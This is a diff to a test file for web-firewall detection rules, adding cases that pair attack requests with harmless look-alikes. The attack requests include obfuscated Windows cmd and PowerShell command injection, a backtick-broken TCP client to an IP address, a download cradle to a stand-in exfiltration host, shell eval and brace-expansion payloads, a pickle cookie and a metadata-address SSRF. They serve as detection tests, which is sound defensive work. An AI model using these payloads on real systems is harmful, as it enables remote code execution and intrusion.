@@ -1,5 +1,5 @@
 /**
- * Bundled rules of rev 2026-12-05b (issue 14): the last misses of the generated attack families drawn
+ * Bundled rules of rev 2026-12-05b and 2026-12-05d (issue 14): the last misses of the generated attack families drawn
  * with seeds 31, 8191 and 5, by mechanism — Struts' redirect:/action: prefix carrying OGNL, cmd started
  * with delayed expansion right after a separator, a PHP recon call as the whole statement of a value, a
  * PHP callback API handed a command function by name, a caret-prefixed cmd word (or ^&) after a separator,
@@ -48,9 +48,16 @@ const CASES: RuleCase[] = [
   [9001644, 'block', "eval '{ps,aux}' after a JSON-escaped line break", json('{"data":"\\neval \'{ps,aux}\\""}'), json('{"body":"\\nevaluate {ps,aux} later"}')],
   [9001605, 'block', "pickle's text protocol in a cookie", { ...header('Cookie', "theme=dark; debug=cposix%0asystem%0a(S'id'%0atR."), url: '/login' }, { ...header('Cookie', 'theme=dark; debug=cosine%0asystem'), url: '/login' }],
   [9001660, 'block', "Alibaba Cloud's metadata address as sslip.io hex", form('name=http%3A%2F%2F646464c8.sslip.io%2Fopc%2Fv2%2Finstance%2F'), form('name=http%3A%2F%2F646464c8.example.com%2Fimg%2F')],
+  // rev 2026-12-05d: the misses of seed 4242's cmd-windows, powershell and shell-substitution families.
+  [9001677, 'block', 'a slice of %ProgramData% building a cmd word in a form value', form('lang=||%ProgramData:~1,1%cmd /c ver'), form('note=set+PATH%3D%25PATH%25%3BC%3A%5Ctools+then+run+~1.bat')],
+  [9001677, 'block', 'a percent-encoded %COMSPEC:~-7,3% slice in a query value', q('x=%25COMSPEC%3A~-7%2C3%25%20%2Fc%20ver'), q('q=50%25%3A~+half+price')],
+  [9001678, 'block', 'New-Object broken by backticks before a TCP client, encoded', q('url=%3B%24c%3DNe%60w-Ob%60je%60ct%20System.Net.Sockets.TCPClient(%2790.82.252.42%27%2C29063)'), json('{"body":"Use `New-Object` to build a `WebClient`; see the `Invoke-Expression` docs."}')],
+  [9001678, 'block', 'IE`X of a download cradle in a form value', form('host=IE%60X(New-Obje%60ct+Net.WebClient).DownloadString(%27http%3A%2F%2Fexfil.example.test%2Fs%27)'), form('notes=a+higher+sub-%60C%60+noise+floor+and+%60std-env%60+helpers')],
+  [9001679, 'block', "a pipe then eval of pw$@d", q("lang=%7Ceval%20%27pw%24%40d%22"), q("q=it%27%27s+a+pi%27%27ng+test")],
+  [9001679, 'block', 'a brace expansion of pi$()ng in a header', header('X-Request-Id', '39710|exec "{pi$()ng,-c,1,pwn412.example.test}\''), header('X-Request-Id', '39710|exec-id {ping,pong}')],
 ];
 
-describe('bundled rules for the attack families\' last misses (rev 2026-12-05b)', () => {
+describe('bundled rules for the attack families\' last misses (rev 2026-12-05b, 2026-12-05d)', () => {
   testRuleCases(CASES, hits);
 
   testPrefilterEntries(CASES.map(([sid]) => sid), () => rules);
